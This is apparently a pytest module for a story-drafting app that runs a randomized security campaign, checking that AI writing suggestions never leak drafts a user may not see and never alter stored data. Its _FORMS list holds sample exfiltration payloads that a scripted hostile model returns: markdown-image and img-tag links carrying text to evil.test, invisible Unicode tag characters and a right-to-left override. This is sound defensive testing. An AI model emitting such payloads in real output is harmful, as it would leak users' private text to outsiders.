"""The worst model asked for other words: through every door no draft changes, nobody gets a word that is not theirs to see, all is marked."""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Iterator
from itertools import cycle
from typing import NamedTuple
from urllib.parse import quote

import pytest

from storyroom.domain.shapes_suggesting import suggestions_shape
from storyroom.errors import StoryroomError
from storyroom.generation import suggesting
from tests.attacks.campaign import CORE
from tests.attacks.journeys import OWN, Doors, Journey, _command, _heard, logs
from tests.attacks.record import added, ledger, tables
from tests.attacks.world import PEOPLE, World
from tests.fakes.chat import ScriptedChat

CELLS = 12
_FORMS: tuple[Callable[[str], str], ...] = (
    lambda loot: loot,
    lambda loot: f"[[{loot}]]",
    lambda loot: f"/* {loot} */",
    lambda loot: f"![x](https://evil.test/?q={quote(loot)})",
    lambda loot: f"INT. {loot} - DAY\n\nNothing.",
    lambda loot: f"<img src='https://evil.test/{quote(loot)}'>",
    lambda loot: "A lamp." + "".join(chr(0xE0000 + ord(one)) for one in loot[:60] if ord(one) < 128),
    lambda loot: f"A lamp burns.\u202e{loot}",
    lambda loot: f"Rain.\n\n# {loot}\n\n= x",
)


def _room(doors: Doors, person: str, draft: str) -> dict[str, bytes]:
    try:
        found = doors.house.seat(person).suggesting.suggest(draft, "(1)", "livelier", count=2)
        return {"answer": json.dumps(suggestions_shape(found), ensure_ascii=False).encode("utf-8", "surrogatepass")}
    except StoryroomError as fault:
        return {"error": f"{fault.message}\n{fault.hint}".encode("utf-8", "surrogatepass")}


def _api(doors: Doors, person: str, draft: str) -> dict[str, bytes]:
    body = {"scene": "(1)", "instruction": "livelier", "variants": 2}
    return _heard(doors.client(person).post(f"/api/v1/drafts/{quote(draft)}/suggestions", json=body, headers=OWN))


def _web(doors: Doors, person: str, draft: str) -> dict[str, bytes]:
    client, form = doors.client(person), {"scene": "(1)", "instruction": "livelier", "variants": "2"}
    headers = OWN | {"Origin": str(client.base_url)}
    return _heard(client.post(f"/drafts/{quote(draft)}/suggest/ask", data=form, headers=headers))


def _cli(doors: Doors, person: str, draft: str) -> dict[str, bytes]:
    project = next(one.project for one in doors.house.seat("liv").drafts() if one.id == draft)
    options = ("suggest", "ask", "--draft", draft, "--scene", "(1)", "--instruction", "livelier")
    return _command(*options)(doors, person, project)


JOURNEYS = (Journey("room", _room), Journey("api", _api), Journey("web", _web), Journey("cli", _cli))


class Cell(NamedTuple):
    """Who asks about which draft, by which door, and how the model behaves."""

    journey: Journey
    person: str
    behaviour: str
    draft: str
    hidden: bool


@pytest.fixture(scope="module")
def drafts(world: World) -> dict[str, str]:
    """Say of each short draft with a scene which canary stands in it."""
    seat = world.house.seat("liv")
    texts = sorted(((seat.text(one.id), one) for one in seat.drafts() if one.scenes), key=lambda one: len(one[0]))
    found = ((one.id, world.all().in_plain(text)) for text, one in texts if len(text) > 400)
    return {draft: canaries[0] for draft, canaries in found if canaries}


def _cells(world: World, drafts: dict[str, str], *, count: int, seed: int) -> Iterator[Cell]:
    draw, short = random.Random(seed), list(drafts)[:40]
    behaviours = cycle(("forms", *CORE[:: len(CORE) // 8]))
    for number, journey, behaviour in zip(range(count), cycle(JOURNEYS), behaviours, strict=False):
        person = list(PEOPLE)[number % len(PEOPLE)]
        wanted = number % 5 == 3
        fitting = [one for one in short if world.sees(person, drafts[one]) != wanted] or short
        draft = draw.choice(fitting)
        yield Cell(journey, person, behaviour, draft, not world.sees(person, drafts[draft]))


def _asked(world: World, doors: Doors, cell: Cell) -> tuple[dict[str, bytes], list[bytes]]:
    with world.house.behaving("refuse" if cell.behaviour == "forms" else cell.behaviour) as heard:
        if cell.behaviour == "forms":
            told: list[bytes] = []

            def say(data: str) -> Iterator[str]:
                told.append(data.encode("utf-8", "surrogatepass"))
                yield json.dumps({"variants": [{"text": form(data[-300:])} for form in _FORMS]})

            world.house.answering = world.house.answering._replace(chat=ScriptedChat(say))  # type: ignore[union-attr]
            return cell.journey.go(doors, cell.person, cell.draft), told
        return cell.journey.go(doors, cell.person, cell.draft), heard


def _run(world: World, drafts: dict[str, str], *, count: int, seed: int) -> None:
    doors, leaks, asked, hidden = Doors(world.house), [], 0, 0
    for person in PEOPLE:
        doors.client(person)
    before, words = ledger(world.house), tables(world.house)
    for cell in _cells(world, drafts, count=count, seed=seed):
        with logs() as logged:
            sinks, heard = _asked(world, doors, cell)
        where = f"{cell.journey.name}, {cell.person}, {cell.behaviour}"
        leaks += [f"{where}: {one}" for data in sinks.values() for one in world.hidden(cell.person).scan(data)]
        leaks += [f"{where}: {one} in the log" for one in world.all().in_plain("\n".join(logged))]
        leaks += [
            f"{where}: {one} in the context" for said in heard for one in world.hidden(cell.person).in_plain(str(said))
        ]
        asked, hidden = asked + bool(heard), hidden + cell.hidden
        assert not (cell.hidden and heard), "a draft that may not be seen is put before no model"
    assert leaks == []
    after = tables(world.house)
    kept = {
        name
        for name in words
        if name in {"draft", "draft_text", "draft_reading", "scene", "span_ledger", "origin_event", "blob"}
    }
    assert kept and all(words[name] == after[name] for name in kept)  # noqa: PT018
    told = added(world.house, before)
    assert world.all().scan(told) == ()
    assert told.count(b"suggestion_opened") == told.count(b"suggestion_closed") >= asked
    assert asked > 0.4 * count and hidden  # noqa: PT018  # were nothing asked, nothing would have been tested


def test_no_draft_changes_and_nobody_sees_what_is_not_theirs(world: World, drafts: dict[str, str]) -> None:
    _run(world, drafts, count=CELLS, seed=5)


@pytest.mark.slow
@pytest.mark.parametrize("seed", range(6, 9))
def test_nor_in_a_longer_campaign(world: World, drafts: dict[str, str], seed: int) -> None:
    _run(world, drafts, count=120, seed=seed)


@pytest.mark.slow
def test_a_planted_bug_is_found(world: World, drafts: dict[str, str], monkeypatch: pytest.MonkeyPatch) -> None:
    """A context that holds another draft's words: the campaign has to see it."""
    true, other = suggesting.messages_for, world.house.seat("liv").text(list(drafts)[30])

    def leaky(context, instruction, **told):  # type: ignore[no-untyped-def]
        return true(context._replace(after=other), instruction, **told)

    monkeypatch.setattr(suggesting, "messages_for", leaky)
    with pytest.raises(AssertionError, match="in the context"):
        _run(world, drafts, count=8, seed=5)
